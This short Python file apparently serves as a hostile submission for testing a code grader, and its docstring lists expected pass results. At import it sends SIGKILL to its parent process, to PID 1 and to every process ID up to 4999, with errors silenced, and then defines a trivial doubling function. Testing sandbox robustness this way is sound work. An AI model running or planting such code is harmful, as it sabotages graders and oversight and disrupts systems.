"""Kills whoever started it, and everybody whose number it can guess.

correct: pass 4
hidden: pass 2
"""

import contextlib
import os
import signal

for pid in [os.getppid(), 1, *range(3, 5000)]:
    with contextlib.suppress(ProcessLookupError, PermissionError):
        os.kill(pid, signal.SIGKILL)


def double(x):
    return 2 * x
